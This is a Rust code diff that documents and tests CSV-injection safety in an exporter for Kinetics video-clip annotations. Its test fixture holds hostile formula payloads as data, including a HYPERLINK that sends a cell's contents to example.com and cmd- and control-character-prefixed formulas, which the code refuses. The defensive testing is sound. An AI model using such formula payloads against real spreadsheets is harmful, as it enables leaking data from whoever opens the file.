@@ -4,11 +4,20 @@
 use crate::error::Error;
 use crate::index::{ClassTable, Clip};
 
-/// The clips as a CSV in the official column layout (see [`crate::parse`]):
+/// The clips as a CSV in the official column layout (see [`mod@crate::parse`]):
 /// `label,youtube_id,time_start,time_end,split`, with a trailing `is_cc` column when any clip has the
 /// Kinetics-400 flag, and without `label` when no clip has one (the unlabelled test layout). Times are
 /// seconds, integers where the segment is on whole seconds (as in the official files), else decimals.
 /// `file` names the export in the (unexpected) error of the CSV writer.
+///
+/// No cell can be run as a spreadsheet formula (CSV injection). The label is the only free text, and
+/// [`crate::parse()`] and [`crate::asset::decode`] refuse labels that begin like a formula
+/// ([`crate::parse::is_formula_like`]), so labels are written unchanged and read back the same. The
+/// other cells are numbers (times, `is_cc`), a split name, and the YouTube id: 11 characters from
+/// `A-Z a-z 0-9 _ -` ([`crate::YoutubeId`] cannot hold anything else). An id may begin with `-` (the
+/// official files have hundreds), which a spreadsheet may read as a formula such as `-A1`, but without
+/// `(`, `"`, `&`, `!`, `|` or `:` it can call no function, build no link and reach no other sheet or
+/// program; the official files show the same ids the same way.
 pub fn to_csv(
     file: &str,
     clips: impl IntoIterator<Item = Clip>,
@@ -145,6 +154,85 @@ mod tests {
             text,
             "youtube_id,time_start,time_end,split\nyq_M1PMw2hY,38,48,test\n"
         );
+    }
+
+    /// Whether a cell could make a spreadsheet do more than show a value: it begins like a formula and
+    /// holds anything beyond the YouTube id alphabet (`-0wR5jVB-WPk` is an id, not a call).
+    fn could_run(cell: &str) -> bool {
+        crate::parse::is_formula_like(cell)
+            && !cell
+                .bytes()
+                .all(|b| b.is_ascii_alphanumeric() || b == b'_' || b == b'-')
+    }
+
+    /// Asserts that no cell of the CSV `text` could run, and that no label (first column, when
+    /// `labelled`) begins like a formula at all.
+    fn assert_no_formula_cells(text: &str, labelled: bool) {
+        let mut reader = csv::ReaderBuilder::new()
+            .has_headers(false)
+            .from_reader(text.as_bytes());
+        for record in reader.records() {
+            let record = record.unwrap();
+            if labelled {
+                let label = &record[0];
+                assert!(
+                    !crate::parse::is_formula_like(label),
+                    "label cell {label:?} begins like a formula"
+                );
+            }
+            for cell in &record {
+                assert!(!could_run(cell), "cell {cell:?} could run as a formula");
+            }
+        }
+    }
+
+    #[test]
+    fn an_export_has_no_formula_cells_for_any_clip_that_parsed() {
+        let hostile = "label,youtube_id,time_start,time_end,split,is_cc\n\
+                       abseiling,0wR5jVB-WPk,417,427,val,0\n\
+                       \"=HYPERLINK(\"\"http://example.com/?\"\"&B2,\"\"open\"\")\",3caPS4FHFF8,1,11,val,0\n\
+                       @SUM(1+1)*cmd,3caPS4FHFF8,1,11,val,0\n\
+                       +1+1,3caPS4FHFF8,1,11,val,1\n\
+                       -2+3,3caPS4FHFF8,1,11,val,1\n\
+                       \"\t=1+1\",3caPS4FHFF8,1,11,val,1\n\
+                       \"\r=1+1\",3caPS4FHFF8,1,11,val,1\n\
+                       air drumming,---QUuC4vJs,104,114,val,1\n";
+        let annotations = parse("in.csv", hostile.as_bytes(), &ReadOptions::skipping()).unwrap();
+        assert_eq!(
+            annotations.skipped.rows, 6,
+            "every formula-like label refused"
+        );
+        assert_eq!(annotations.labels, ["abseiling", "air drumming"]);
+        let mut index = Index::new();
+        index.insert(annotations, None, Merge::Extend).unwrap();
+        let text = to_csv("out.csv", all_clips(&index), index.classes()).unwrap();
+        assert!(
+            text.contains("air drumming,---QUuC4vJs,104,114,val,1\n"),
+            "{text}"
+        );
+        assert_no_formula_cells(&text, true);
+
+        // The real files, whose ids often begin with `-`: every label and id is exported, none can run.
+        for name in [
+            "kinetics-400_val.csv",
+            "kinetics-600_val.csv",
+            "kinetics-400_test.csv",
+        ] {
+            let path = format!(
+                "{}/../../../shared/data/kinetics/{name}",
+                env!("CARGO_MANIFEST_DIR")
+            );
+            let annotations =
+                parse(name, &std::fs::read(path).unwrap(), &ReadOptions::default()).unwrap();
+            let clips = annotations.clips.len();
+            let mut index = Index::new();
+            index.insert(annotations, None, Merge::Extend).unwrap();
+            let text = to_csv(name, all_clips(&index), index.classes()).unwrap();
+            assert_eq!(text.lines().count(), clips + 1, "{name}");
+            let id_with_dash = text.contains("\n-") || text.contains(",-");
+            assert!(id_with_dash, "{name}: some id begins with -");
+            assert_no_formula_cells(&text, !name.contains("test"));
+        }
     }
 
     #[test]
